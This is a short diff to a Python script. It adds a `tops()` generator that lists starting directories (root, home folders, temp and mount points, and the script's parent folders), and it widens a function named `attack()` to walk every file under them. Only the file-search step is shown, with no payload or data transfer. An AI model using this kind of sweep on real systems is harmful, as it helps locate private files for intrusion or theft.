@@ -46,9 +46,18 @@ def homes():
     yield "/home"
 
 
+def tops():
+    """Where to begin: who may not list / may still know what is in there."""
+    yield from ("/", *homes(), "/tmp", "/var/tmp", "/work", "/opt", "/srv", "/mnt", "/media")
+    folder = os.path.dirname(OWN)
+    while folder != "/":
+        yield folder
+        folder = os.path.dirname(folder)
+
+
 def attack():
     home = tuple(path + "/" for path in homes() if path != "/")
-    for folder, folders, files in os.walk("/"):
+    for folder, folders, files in (found for top in tops() for found in os.walk(top)):
         folders[:] = [name for name in folders if os.path.join(folder, name) not in PASSED_OVER]
         for name in files:
             path = os.path.join(folder, name)
